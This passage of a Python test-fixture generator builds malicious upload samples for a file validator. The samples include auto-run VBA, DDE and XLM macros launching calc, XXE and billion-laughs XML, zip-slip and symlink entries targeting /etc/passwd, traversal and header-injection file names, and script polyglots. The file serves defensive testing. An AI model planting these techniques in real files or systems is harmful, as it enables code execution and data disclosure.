                '<w:attachedTemplate r:id="rId1"/></w:settings>'.encode(),
                "word/_rels/settings.xml.rels": relationships(
                    f'<Relationship Id="rId1" Type="{NS_R}/attachedTemplate" '
                    f'Target="{home}/t.dotm" '
                    'TargetMode="External"/>'
                ),
            }
        ),
        accepted_by=(EVIDENCE,),
    )


def _utf7(xml: bytes) -> bytes:
    text = xml.decode().replace('version="1.0"?>', 'version="1.0" encoding="UTF-7"?>', 1)
    head, _, rest = text.partition("?>")
    return (head + "?>").encode() + rest.encode("utf-7")


def _doctype_across_chunks() -> bytes:
    head = XML_HEAD.encode() + b"<!--"
    padding = b" " * (64 * 1024 - 4 - len(head) - 3) + b"-->"
    laughs = billion_laughs("worksheet").split("\n", 1)[1].encode()
    body = f'<worksheet xmlns="{NS_S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;'
    body += "</t></is></c></row></sheetData></worksheet>"
    return zip_of(
        xlsx_parts() | {"xl/worksheets/sheet1.xml": head + padding + laughs + body.encode()}
    )


def _broken_office(add) -> None:
    cat = "truncated or encrypted OOXML"
    add(
        "truncated-docx-half",
        cat,
        "plan.docx",
        "a Word file cut in half",
        lambda: docx()[: len(docx()) // 2],
    )
    add(
        "truncated-xlsx-half",
        cat,
        "annex-a.xlsx",
        "a workbook cut in half",
        lambda: xlsx()[: len(xlsx()) // 2],
    )
    add(
        "truncated-xlsx-no-directory",
        cat,
        "values.xlsx",
        "a workbook cut just before its central directory",
        lambda: xlsx()[: xlsx().rfind(b"PK\x01\x02", 0, xlsx().find(b"PK\x01\x02") + 1)],
    )
    add(
        "truncated-header-only",
        cat,
        "plan.docx",
        "only a zip's first four bytes",
        lambda: b"PK\x03\x04",
    )
    add(
        "truncated-end-record-only",
        cat,
        "annex-a.xlsx",
        "an empty zip: its end record alone",
        lambda: b"PK\x05\x06" + bytes(18),
    )
    add(
        "corrupt-deflate",
        cat,
        "plan.docx",
        "word/document.xml's compressed bytes overwritten",
        _corrupt_deflate,
    )
    add(
        "bad-crc",
        cat,
        "annex-a.xlsx",
        "a worksheet whose checksum does not match",
        lambda: raw_zip(
            [
                e
                if e.name != b"xl/worksheets/sheet1.xml"
                else RawEntry(e.name, e.packed, e.size, e.crc ^ 1)
                for e in _xlsx_entries()
            ]
        ),
    )
    add(
        "missing-main-part",
        cat,
        "annex-a.xlsx",
        "content types name xl/workbook.xml, which is missing",
        lambda: zip_of({k: v for k, v in xlsx_parts().items() if k != "xl/workbook.xml"}),
    )
    add(
        "missing-content-types",
        cat,
        "plan.docx",
        "no [Content_Types].xml",
        lambda: zip_of({k: v for k, v in docx_parts().items() if k != "[Content_Types].xml"}),
    )
    add(
        "missing-sheet",
        cat,
        "annex-a.xlsx",
        "the workbook names a worksheet that is missing",
        lambda: zip_of({k: v for k, v in xlsx_parts().items() if k != "xl/worksheets/sheet1.xml"}),
        accepted_by=(EVIDENCE,),
    )
    add(
        "malformed-workbook",
        cat,
        "annex-a.xlsx",
        "xl/workbook.xml is not well-formed XML",
        lambda: zip_of(xlsx_parts() | {"xl/workbook.xml": b"<workbook><sheets><sheet name="}),
        accepted_by=(EVIDENCE,),
    )
    add(
        "malformed-sheet",
        cat,
        "values.xlsx",
        "a worksheet that stops mid-tag",
        lambda: zip_of(
            xlsx_parts() | {"xl/worksheets/sheet1.xml": sheet_xml([["a", "b"]] * 50)[:900]}
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "malformed-document",
        cat,
        "plan.docx",
        "word/document.xml that stops mid-tag",
        lambda: docx(document_xml("Plan")[:120]),
        accepted_by=(EVIDENCE,),
    )
    add(
        "sheet-points-at-workbook",
        cat,
        "annex-a.xlsx",
        "the workbook's relationship makes xl/workbook.xml its own worksheet",
        lambda: zip_of(
            xlsx_parts()
            | {"xl/_rels/workbook.xml.rels": relationships(_rel("workbook.xml", "worksheet"))}
        ),
        accepted_by=(
            EVIDENCE,
            ANNEXA,
        ),
    )
    add(
        "sheet-target-outside",
        cat,
        "annex-a.xlsx",
        "the worksheet's target is '../../../../etc/passwd'",
        lambda: zip_of(
            xlsx_parts()
            | {
                "xl/_rels/workbook.xml.rels": relationships(
                    _rel("../../../../etc/passwd", "worksheet")
                )
            }
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "encrypted-docx",
        cat,
        "plan.docx",
        "a password-protected Word file (an OLE container holding EncryptedPackage)",
        lambda: ole("EncryptionInfo", "EncryptedPackage"),
    )
    add(
        "encrypted-xlsx",
        cat,
        "annex-a.xlsx",
        "a password-protected workbook",
        lambda: ole("EncryptionInfo", "EncryptedPackage"),
    )
    add(
        "encrypted-entry",
        cat,
        "plan.docx",
        "word/document.xml flagged as encrypted",
        lambda: raw_zip(
            [
                RawEntry(
                    e.name,
                    e.packed,
                    e.size,
                    e.crc,
                    flags=1 if e.name == b"word/document.xml" else 0,
                )
                for e in _docx_entries()
            ]
        ),
    )
    add(
        "aes-entry",
        cat,
        "annex-a.xlsx",
        "a worksheet packed with WinZip AES (method 99)",
        lambda: raw_zip(
            [
                RawEntry(e.name, e.packed, e.size, e.crc, method=99, flags=1)
                if e.name == b"xl/worksheets/sheet1.xml"
                else e
                for e in _xlsx_entries()
            ]
        ),
    )
    add("old-word", cat, "plan.doc", "a Word 97-2003 file", lambda: ole("WordDocument"))
    add(
        "old-excel-named-xlsx",
        cat,
        "annex-a.xlsx",
        "an Excel 97-2003 file named .xlsx",
        lambda: ole("Workbook"),
    )
    add("ole-named-csv", cat, "values.csv", "an OLE container named .csv", lambda: ole("Workbook"))


def _corrupt_deflate() -> bytes:
    entries = _docx_entries()
    for entry in entries:
        if entry.name == b"word/document.xml":
            entry.packed = bytes(b ^ 0x5A for b in entry.packed)
    return raw_zip(entries)


def _macros(add) -> None:
    cat = "macros and active content"
    vba = b'\xcc\x61\x00\x00Attribute VB_Name = "Module1"\r\n'
    vba += b'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub'
    docm = zip_of(
        docx_parts()
        | {
            "[Content_Types].xml": content_types(
                ("/word/document.xml", DOCM_MAIN),
                extra=(
                    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                ),
            ),
            "word/vbaProject.bin": vba,
        }
    )
    xlsm = zip_of(
        xlsx_parts()
        | {
            "[Content_Types].xml": content_types(
                ("/xl/workbook.xml", XLSM_MAIN),
                ("/xl/worksheets/sheet1.xml", SHEET_TYPE),
                extra=VBA_DEFAULT,
            ),
            "xl/vbaProject.bin": vba,
        }
    )
    add(
        "docm-named-docx", cat, "plan.docx", "a macro-enabled Word file renamed .docx", lambda: docm
    )
    add(
        "xlsm-named-xlsx",
        cat,
        "annex-a.xlsx",
        "a macro-enabled workbook renamed .xlsx",
        lambda: xlsm,
    )
    add("docm", cat, "plan.docm", "a macro-enabled Word file", lambda: docm)
    add("xlsm", cat, "annex-a.xlsm", "a macro-enabled workbook", lambda: xlsm)
    add("xlsb", cat, "annex-a.xlsb", "a binary workbook (can hold macros)", lambda: xlsx())
    add(
        "macro-type-only",
        cat,
        "plan.xlsx",
        "a workbook whose main part is declared macro-enabled, without vbaProject.bin",
        lambda: zip_of(
            xlsx_parts()
            | {
                "[Content_Types].xml": content_types(
                    ("/xl/workbook.xml", XLSM_MAIN), ("/xl/worksheets/sheet1.xml", SHEET_TYPE)
                )
            }
        ),
    )
    add(
        "vba-renamed",
        cat,
        "annex-a.xlsx",
        "vbaProject.bin renamed xl/data.bin, its content type kept",
        lambda: zip_of(
            xlsx_parts()
            | {
                "[Content_Types].xml": content_types(
                    ("/xl/workbook.xml", XLSX_MAIN),
                    ("/xl/worksheets/sheet1.xml", SHEET_TYPE),
                    extra=VBA_DEFAULT,
                ),
                "xl/data.bin": vba,
            }
        ),
    )
    add(
        "vba-hidden-no-type",
        cat,
        "plan.docx",
        "VBA code as word/media/image9.bin with no "
        "macro content type: Word ignores it, but it is still macro code",
        lambda: zip_of(docx_parts() | {"word/vbaProject.bin": vba}),
    )
    add(
        "excel4-macro-sheet",
        cat,
        "annex-a.xlsx",
        "an Excel 4.0 (XLM) macro sheet: macros without any VBA",
        _macro_sheet,
    )
    add(
        "activex-control",
        cat,
        "plan.docx",
        "an ActiveX control inside a Word file",
        lambda: zip_of(
            docx_parts()
            | {
                "[Content_Types].xml": content_types(
                    ("/word/document.xml", DOCX_MAIN),
                    ("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
                    extra=ACTIVEX_DEFAULT,
                ),
                "word/activeX/activeX1.xml": (
                    f'{XML_HEAD}<ax:ocx xmlns:ax="{ACTIVEX_NS}" '
                    'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'
                ).encode(),
                "word/activeX/activeX1.bin": b"\x00" * 64,
            }
        ),
    )
    add(
        "macro-in-embedded-workbook",
        cat,
        "plan.docx",
        "a macro-enabled workbook embedded in a Word file",
        lambda: with_parts(docx_parts(), **{"word__embeddings__Sheet.xlsm": xlsm}),
    )
    add(
        "dde-field",
        cat,
        "plan.docx",
        "a DDEAUTO field that asks Word to run a command",
        lambda: docx(
            document_xml(
                "Plan",
                body=(
                    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
                    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                ),
            )
        ),
        accepted_by=(EVIDENCE,),
    )


def _macro_sheet() -> bytes:
    parts = xlsx_parts()
    parts["[Content_Types].xml"] = content_types(
        ("/xl/workbook.xml", XLSX_MAIN),
        ("/xl/worksheets/sheet1.xml", SHEET_TYPE),
        ("/xl/macrosheets/sheet2.xml", MACROSHEET_TYPE),
    )
    parts["xl/workbook.xml"] = workbook_xml("List 1", "Auto_Open")
    parts["xl/_rels/workbook.xml.rels"] = relationships(
        _rel("worksheets/sheet1.xml", "worksheet"),
        '<Relationship Id="rId2" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" '
        'Target="macrosheets/sheet2.xml"/>',
    )
    parts["xl/macrosheets/sheet2.xml"] = (
        f'{XML_HEAD}<xm:macrosheet xmlns="{NS_S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2">'
        "<f>HALT()</f></c></row>"
        "</sheetData></xm:macrosheet>"
    ).encode()
    return zip_of(parts)


def _wrong_kinds(add) -> None:
    cat = "wrong magic or extension"
    report = simple_pdf("Inspection of Test Council children's services")
    add("pdf-named-xlsx", cat, "annex-a.xlsx", "a PDF named .xlsx", lambda: report)
    add("pdf-named-docx", cat, "plan.docx", "a PDF named .docx", lambda: report)
    add("pdf-named-csv", cat, "values.csv", "a PDF named .csv", lambda: report)
    add("png-named-csv", cat, "values.csv", "a PNG image named .csv", lambda: png())
    add("png-named-xlsx", cat, "annex-a.xlsx", "a PNG image named .xlsx", lambda: png())
    add("png-named-txt", cat, "report.txt", "a PNG image named .txt", lambda: png())
    add("png-named-pdf", cat, "report.pdf", "a PNG image named .pdf", lambda: png())
    add("jpeg-named-docx", cat, "plan.docx", "a JPEG image named .docx", jpeg)
    add(
        "gif-named-json",
        cat,
        "plan.json",
        "a GIF image named .json",
        lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    )
    add(
        "elf-named-csv",
        cat,
        "values.csv",
        "a Linux program named .csv",
        lambda: b"\x7fELF\x02\x01\x01" + bytes(57) + b"/bin/sh\0" * 8,
    )
    add(
        "exe-named-pdf",
        cat,
        "report.pdf",
        "a Windows program named .pdf",
        lambda: (
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
            + bytes(50)
            + b"This program cannot be run in DOS mode"
        ),
    )
    add(
        "exe",
        cat,
        "setup.exe",
        "a Windows program under its own name",
        lambda: b"MZ\x90\x00" + bytes(60) + b"PE\0\0",
    )
    add(
        "gzip-named-json",
        cat,
        "plan.json",
        "a gzip archive named .json",
        lambda: (
            b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + deflated(json_plan().encode()) + bytes(8)
        ),
    )
    add(
        "rar-named-xlsx",
        cat,
        "annex-a.xlsx",
        "a RAR archive named .xlsx",
        lambda: b"Rar!\x1a\x07\x01\x00" + bytes(64),
    )
    add(
        "7z-named-docx",
        cat,
        "plan.docx",
        "a 7-Zip archive named .docx",
        lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64),
    )
    add("docx-named-xlsx", cat, "annex-a.xlsx", "a Word file named .xlsx", lambda: docx())
    add("xlsx-named-docx", cat, "plan.docx", "a workbook named .docx", lambda: xlsx())
    add("xlsx-named-csv", cat, "values.csv", "a workbook named .csv", lambda: xlsx())
    add("docx-named-pdf", cat, "report.pdf", "a Word file named .pdf", lambda: docx())
    add("docx-named-txt", cat, "report.txt", "a Word file named .txt", lambda: docx())
    add("xlsx-named-json", cat, "plan.json", "a workbook named .json", lambda: xlsx())
    add(
        "zip-named-xlsx",
        cat,
        "annex-a.xlsx",
        "a plain zip of CSV files named .xlsx",
        lambda: zip_of({"List 1.csv": ",".join(ANNEXA_HEADER).encode()}),
    )
    add(
        "odt-named-docx",
        cat,
        "plan.docx",
        "an OpenDocument text named .docx",
        lambda: zip_of(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<office:document-content/>",
            }
        ),
    )
    add(
        "pptx-named-docx",
        cat,
        "plan.docx",
        "a PowerPoint file named .docx",
        lambda: zip_of(
            {
                "[Content_Types].xml": content_types(
                    (
                        "/ppt/presentation.xml",
                        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
                    )
                ),
                "ppt/presentation.xml": b"<p:presentation/>",
            }
        ),
    )
    add(
        "html-named-xlsx",
        cat,
        "annex-a.xlsx",
        "an HTML page named .xlsx (how some systems 'export to Excel')",
        lambda: (
            b"<html><body><table><tr><td>Child Unique ID</td></tr></table>"
            b"<script>alert('g2g')</script></body></html>"
        ),
    )
    add(
        "rtf-named-docx",
        cat,
        "plan.docx",
        "an RTF file named .docx",
        lambda: b"{\\rtf1\\ansi{\\object\\objautlink{\\*\\objdata 0105000002000000}}}",
    )
    add(
        "svg-named-png",
        cat,
        "chart.png",
        "an SVG with script named .png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    )
    add(
        "double-extension",
        cat,
        "plan.xlsx.exe",
        "a program named plan.xlsx.exe",
        lambda: b"MZ\x90\x00" + bytes(60),
    )
    add(
        "trailing-dot",
        cat,
        "plan.xlsx.",
        "a workbook named with a trailing dot (evidence names lose it)",
        lambda: xlsx(),
        accepted_by=(EVIDENCE,),
    )
    add(
        "no-extension-binary",
        cat,
        "plan",
        "binary data without an extension",
        lambda: bytes(range(256)) * 16,
    )


def _polyglots(add) -> None:
    cat = "polyglot"
    add(
        "pdf-zip",
        cat,
        "report.pdf",
        "a PDF with a Word file appended: a PDF reader and a zip reader each see a valid file",
        lambda: simple_pdf("Report") + docx(),
    )
    add(
        "pdf-zip-named-docx",
        cat,
        "plan.docx",
        "the same PDF + zip named .docx",
        lambda: simple_pdf("Report") + docx(),
    )
    add(
        "zip-pdf",
        cat,
        "report.pdf",
        "a Word file whose first part holds a PDF, so '%PDF-' sits in its first kilobyte",
        lambda: raw_zip([stored("a.pdf", simple_pdf("Report")), *_docx_entries()]),
    )
    add("png-zip", cat, "chart.png", "a PNG image with a zip appended", lambda: png() + docx())
    add("jpeg-zip", cat, "photo.jpg", "a JPEG image with a zip appended", lambda: jpeg() + xlsx())
    add(
        "gif-script",
        cat,
        "notes.txt",
        "GIF89a/*...*/ JavaScript polyglot named .txt",
        lambda: b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=alert('g2g');",
    )
    add(
        "html-pdf",
        cat,
        "report.pdf",
        "a PDF header followed by an HTML page with script",
        lambda: b"%PDF-1.4\n<html><script>alert('g2g')</script></html>\n%%EOF",
        accepted_by=(EVIDENCE,),
    )
    add(
        "csv-zip",
        cat,
        "values.csv",
        "a CSV file with a zip appended",
        lambda: VALUES_CSV.encode() + xlsx(),
    )
    add(
        "text-pdf-late",
        cat,
        "report.txt",
        "text whose second kilobyte starts a PDF",
        lambda: b"Inspection report\n" + b" " * 1100 + simple_pdf("Report"),
        accepted_by=(EVIDENCE,),
    )


def _names(add) -> None:
    cat = "path traversal and names"
    plan_csv = csv_plan(["1.1", "Do it", "DCS", "March 2025"])
    fine = (PLAN, EVIDENCE)
    add(
        "name-traversal",
        cat,
        "../../etc/passwd.csv",
        "an upload named ../../etc/passwd.csv",
        lambda: plan_csv,
        accepted_by=fine,
    )
    add(
        "name-absolute",
        cat,
        "/etc/cron.d/plan.csv",
        "an upload named with an absolute path",
        lambda: plan_csv,
        accepted_by=fine,
    )
    add(
        "name-windows",
        cat,
        "C:\\Windows\\System32\\plan.csv",
        "an upload named with a Windows path",
        lambda: plan_csv,
        accepted_by=fine,
    )
    add(
        "name-nul",
        cat,
        "plan.csv\x00.exe",
        "an upload named with a NUL byte",
        lambda: plan_csv,
        accepted_by=fine,
    )
    add(
        "name-very-long",
        cat,
        "p" * 5000 + ".csv",
        "an upload named with 5,000 characters",
        lambda: plan_csv,
        accepted_by=fine,
    )
    add(
        "name-rtl-override",
        cat,
        "plan\u202excs.exe",
        "a right-to-left override that shows plan.exe as planexe.csv",
        lambda: plan_csv,
        accepted_by=(PLAN,),
    )
    add(
        "name-html",
        cat,
        "<script>alert('g2g')</script>.csv",
        "a name that is a script",
        lambda: plan_csv,
        accepted_by=fine,
    )
    add(
        "name-header-break",
        cat,
        'plan".csv\r\nContent-Type: text/html',
        "a name that breaks out of its header",
        lambda: plan_csv,
        accepted_by=fine,
    )
    add("name-dots", cat, "..", "an upload named '..'", lambda: plan_csv, accepted_by=fine)
    add("name-device", cat, "CON.csv", "a Windows device name", lambda: plan_csv, accepted_by=fine)
    add(
        "entry-traversal",
        cat,
        "plan.docx",
        "a zip entry named ../../x (zip slip)",
        lambda: zip_of(docx_parts() | {"../../evil.sh": b"#!/bin/sh\n"}),
    )
    add(
        "entry-absolute",
        cat,
        "annex-a.xlsx",
        "a zip entry named /etc/passwd",
        lambda: zip_of(xlsx_parts() | {"/etc/passwd": b"root"}),
    )
    add(
        "entry-drive",
        cat,
        "plan.docx",
        "a zip entry named C:/Windows/evil.dll",
        lambda: zip_of(docx_parts() | {"C:/Windows/evil.dll": b"MZ"}),
    )
    add(
        "entry-backslashes",
        cat,
        "annex-a.xlsx",
        "a zip entry named ..\\..\\evil.bat",
        lambda: raw_zip([*_xlsx_entries(), stored("..\\..\\evil.bat", b"calc")]),
    )
    add(
        "entry-nul-name",
        cat,
        "plan.docx",
        "a second word/document.xml, named with a NUL after it, holding billion laughs",
        lambda: raw_zip([*_docx_entries(), packed("word/document.xml\0.png", laughs_document())]),
    )
    add(
        "entry-duplicate",
        cat,
        "annex-a.xlsx",
        "two worksheet entries of the same name, the second with an external entity",
        lambda: raw_zip(
            [
                *_xlsx_entries(),
                packed(
                    "xl/worksheets/sheet1.xml",
                    (
                        external("worksheet", "file:///etc/passwd")
                        + f'<worksheet xmlns="{NS_S}"><sheetData><row r="1"><c r="A1" '
                        f't="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'
                    ).encode(),
                ),
            ]
        ),
    )
    add(
        "entry-long-name",
        cat,
        "plan.xlsx",
        "a zip entry with a 60,000-character name",
        lambda: raw_zip([*_xlsx_entries(), stored("xl/" + "a" * 60_000, b"x")]),
    )
    add(
        "entry-name-mismatch",
        cat,
        "plan.docx",
        "a central directory name that differs from its local header's",
        _name_mismatch,
    )
    add(
        "entry-symlink",
        cat,
        "plan.docx",
        "a zip entry that is a symbolic link to /etc/passwd",
        _symlink,
    )


def _name_mismatch() -> bytes:
    data = bytearray(docx())
    at = data.find(b"word/document.xml")  # the local header's copy comes first
    data[at : at + 4] = b"WORD"
    return bytes(data)


def _symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in docx_parts().items():
            archive.writestr(zipfile.ZipInfo(name, _WHEN), data)
        link = zipfile.ZipInfo("word/media/link", _WHEN)
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _empty_and_oversized(add) -> None:
    cat = "empty or oversized"
    for extension in ("csv", "xlsx", "docx", "pdf", "txt", "json", "png"):
        add(
            f"empty-{extension}",
            cat,
            f"empty.{extension}",
            f"an empty .{extension} file",
            lambda: b"",
        )
    add(
        "whitespace-only",
        cat,
        "values.csv",
        "spaces, tabs and line ends only",
        lambda: b" \t\r\n" * 100,
        accepted_by=(EVIDENCE,),
    )
    add(
        "bom-only",
        cat,
        "report.txt",
        "a UTF-8 byte order mark and nothing else",
        lambda: b"\xef\xbb\xbf",
        accepted_by=(EVIDENCE,),
    )
    add("nul-only", cat, "report.txt", "100 NUL bytes", lambda: bytes(100))
    add(
        "over-plan-limit",
        cat,
        "plan.csv",
        "a CSV one byte over 20 MB",
        lambda: _filled(b"1.1,Do it,DCS,March 2025\r\n", PLAN_LIMIT + 1),
        paths=(PLAN, ANNEXA, VALUES),
    )
    add(
        "over-values-limit",
        cat,
        "values.csv",
        "values one byte over 10 MB",
        lambda: _filled(
            b"RE1,2025-01,31.4\r\n", VALUES_LIMIT + 1, head=b"measure,period,value\r\n"
        ),
        paths=(VALUES, EVIDENCE),
    )
    add(
        "over-evidence-limit",
        cat,
        "audit.pdf",
        "a PDF one byte over 10 MB",
        lambda: _filled(b"% padding\n", EVIDENCE_LIMIT + 1, head=simple_pdf("Audit")),
        paths=(EVIDENCE, INSPECTION),
    )
    add(
        "over-annexa-limit",
        cat,
        "annex-a.xlsx",
        "a workbook one byte over 20 MB",
        lambda: raw_zip(
            [*_xlsx_entries(), stored("xl/media/pad.bin", bytes(ANNEXA_LIMIT - 1300))]
        ).ljust(ANNEXA_LIMIT + 1, b"\0"),
        paths=(ANNEXA, PLAN),
    )
    add(
        "over-inspection-limit",
        cat,
        "report.pdf",
        "a PDF one byte over 20 MB",
        lambda: _filled(b"% padding\n", 20 * MB + 1, head=simple_pdf("Report")),
        paths=(INSPECTION,),
    )
    add(
        "big-text-plan",
        cat,
        "plan.txt",
        "19 MB of plan rows: under the limit, as slow to read as a text plan can be",
        lambda: _filled(b"1.1\tDo it\tDCS\tMarch 2025\n", 19 * MB, head=text_plan().encode()),
        paths=(PLAN, INSPECTION),
    )
    add(
        "big-csv-plan",
        cat,
        "plan.csv",
        "19 MB of CSV plan rows",
        lambda: _filled(b'1.1,"Do it",DCS,March 2025\r\n', 19 * MB, head=csv_plan()),
        paths=(PLAN, VALUES),
    )
    add(
        "big-values",
        cat,
        "values.csv",
        "9.9 MB of values rows (over 500,000)",
        lambda: _filled(b"RE1,2025-01,31.4\r\n", int(9.9 * MB), head=b"measure,period,value\r\n"),
        paths=(VALUES,),
    )
    add(
        "many-rows-xlsx",
        cat,
        "values.xlsx",
        "a worksheet of 200,000 rows, packed 10 to 1 like a real one",
        _many_rows,
    )


def _filled(line: bytes, size: int, *, head: bytes = b"") -> bytes:
    body = line * ((size - len(head)) // len(line) + 1)
    return (head + body)[:size]


def _many_rows() -> bytes:
    rows = [
        f'<row r="{n}"><c r="A{n}"><v>{n * 7919 % 100_003}</v></c><c r="B{n}"><v>{n}</v></c></row>'
        for n in range(2, 200_002)
    ]
    head = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{ANNEXA_HEADER[0]}</t></is></c></row>'
    sheet = f'{XML_HEAD}<worksheet xmlns="{NS_S}"><sheetData>{head}{"".join(rows)}'
    sheet += "</sheetData></worksheet>"
    return zip_of(xlsx_parts() | {"xl/worksheets/sheet1.xml": sheet.encode()}, level=1)


def _huge_cells(add) -> None:
    cat = "huge cells"
    add(
        "cell-10mb-csv",
        cat,
        "values.csv",
        "one CSV cell of 9.9 MB (under the values limit)",
        lambda: b'measure,period,value\r\n"' + b"x" * int(9.9 * MB) + b'",2025-01,1\r\n',
        accepted_by=(EVIDENCE,),
    )
    add(
        "cell-40k-xlsx",
        cat,
        "annex-a.xlsx",
        "a 40,000-character cell (Excel's limit is 32,767)",
        lambda: xlsx(
            sheet_xml([ANNEXA_HEADER, ["C" * 40_000, "M", "WBRI", "", "", "01/03/2025", "1A"]])
        ),
        accepted_by=(
            ANNEXA,
            EVIDENCE,
        ),
    )
    add(
        "cell-9mb-xlsx",
        cat,
        "values.xlsx",
        "one 9 MB cell that packs only 2 to 1",
        lambda: xlsx(sheet_xml([["measure", "period", "value"], [_noise(9 * MB), "2025-01", "1"]])),
    )
    add(
        "header-million-columns-csv",
        cat,
        "values.csv",
        "a header row of a million columns",
        lambda: b"measure," * 1_000_000 + b"\r\n",
        accepted_by=(EVIDENCE,),
    )
    add(
        "header-16384-columns-xlsx",
        cat,
        "annex-a.xlsx",
        "a header row filling all 16,384 columns",
        lambda: xlsx(sheet_xml([[f"h{n}" for n in range(16_384)]])),
        accepted_by=(
            ANNEXA,
            EVIDENCE,
        ),
    )
    add(
        "far-corner-xlsx",
        cat,
        "annex-a.xlsx",
        "two cells, A1 and XFD1048576: a reader that "
        "makes a grid between them needs 17 billion cells",
        lambda: xlsx(
            f'{XML_HEAD}<worksheet xmlns="{NS_S}"><sheetData><row r="1"><c r="A1" '
            f't="inlineStr"><is><t>Child Unique ID</t></is></c></row>'
            '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'.encode()
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "far-row-xlsx",
        cat,
        "values.xlsx",
        "a header in row 1 and one value in row 1,048,576",
        lambda: xlsx(
            f'{XML_HEAD}<worksheet xmlns="{NS_S}"><sheetData><row r="1"><c r="A1" '
            f't="inlineStr"><is><t>measure</t></is></c></row>'
            '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData></worksheet>'.encode()
        ),
        accepted_by=(
            ANNEXA,
            EVIDENCE,
        ),
    )
    add(
        "dimension-lies-xlsx",
        cat,
        "annex-a.xlsx",
        "a sheet that claims A1:XFD1048576 and holds one cell",
        lambda: xlsx(sheet_xml([ANNEXA_HEADER], dimension="A1:XFD1048576")),
        accepted_by=(
            ANNEXA,
            EVIDENCE,
        ),
    )
    add("many-sheets-xlsx", cat, "plan.xlsx", "5,000 worksheets", _many_sheets)
    add(
        "nul-in-cells-xlsx",
        cat,
        "annex-a.xlsx",
        "NUL and unpaired-surrogate character references in a sheet name and header cells "
        "(PostgreSQL cannot store a NUL)",
        _nul_cells,
        accepted_by=(EVIDENCE,),
    )
    add(
        "many-actions-csv",
        cat,
        "plan.csv",
        "a CSV plan of 9,000 actions: under the line limit, over the action limit",
        lambda: csv_plan(*([f"1.{n}", f"Action {n}", "DCS", "March 2025"] for n in range(9_000))),
        paths=(PLAN,),
    )
    add(
        "most-actions-csv",
        cat,
        "plan.csv",
        "a CSV plan of 4,900 actions: under every limit, so its preview lists them all",
        lambda: csv_plan(*([f"1.{n}", f"Action {n}", "DCS", "March 2025"] for n in range(4_900))),
        paths=(PLAN,),
        accepted_by=(PLAN,),
    )
    add(
        "many-rows-plan-xlsx",
        cat,
        "plan.xlsx",
        "a workbook of 30,000 plan rows (7 MB of XML, under the part limit)",
        _many_plan_rows,
        paths=(PLAN, VALUES, ANNEXA),
        accepted_by=(ANNEXA,),
    )
    add(
        "long-line-txt",
        cat,
        "plan.txt",
        "a text plan whose one line is 10 MB of words",
        lambda: text_plan().encode() + b"Lorem ipsum dolor sit amet " * (10 * MB // 27),
        paths=(PLAN, INSPECTION, EVIDENCE),
    )
    add(
        "tabs-txt",
        cat,
        "plan.txt",
        "a row of a million tabs",
        lambda: text_plan().encode() + b"1.2" + b"\t" * 1_000_000 + b"x\n",
        accepted_by=(EVIDENCE,),
    )
    add(
        "paragraphs-docx",
        cat,
        "plan.docx",
        "a Word file of 100,000 paragraphs",
        lambda: docx(document_xml(*(f"Paragraph {n}" for n in range(100_000)))),
        accepted_by=(EVIDENCE,),
    )
    add(
        "nested-tables-docx",
        cat,
        "plan.docx",
        "tables nested 300 deep",
        lambda: docx(
            document_xml(
                "Plan", body="<w:tbl><w:tr><w:tc>" * 300 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 300
            )
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "wide-table-docx",
        cat,
        "plan.docx",
        "a table row of 20,000 cells",
        lambda: docx(
            document_xml(
                "Plan",
                body="<w:tbl><w:tr>"
                + "<w:tc><w:p><w:r><w:t>Ref</w:t></w:r></w:p></w:tc>" * 20_000
                + "</w:tr></w:tbl>",
            )
        ),
        accepted_by=(EVIDENCE,),
    )


def _noise(size: int) -> str:
    """Letters that deflate only about 2 to 1 (so no ratio check fires), the same every time."""
    letters = bytes(97 + n % 26 for n in range(256))
    return random.Random(4).randbytes(size).translate(letters).decode()  # noqa: S311 - test data


def _many_plan_rows() -> bytes:
    rows = [PLAN_HEADER] + [
        [f"{n // 100}.{n % 100}", f"Action {n * 7919 % 100_003}", f"Lead {n % 97}", "March 2025"]
        for n in range(30_000)
    ]
    return zip_of(xlsx_parts(sheet_xml(rows)), level=6)


def _nul_cells() -> bytes:
    header = "".join(
        f'<c r="{_column(n)}1" t="inlineStr"><is><t>{text}</t></is></c>'
        for n, text in enumerate([*ANNEXA_HEADER, "Note&#0;", "Bad &#xD800; text"], 1)
    )
    sheet = f'{XML_HEAD}<worksheet xmlns="{NS_S}"><sheetData><row r="1">{header}</row>'
    sheet += '<row r="2"><c r="A2" t="inlineStr"><is><t>C&#0;1</t></is></c></row>'
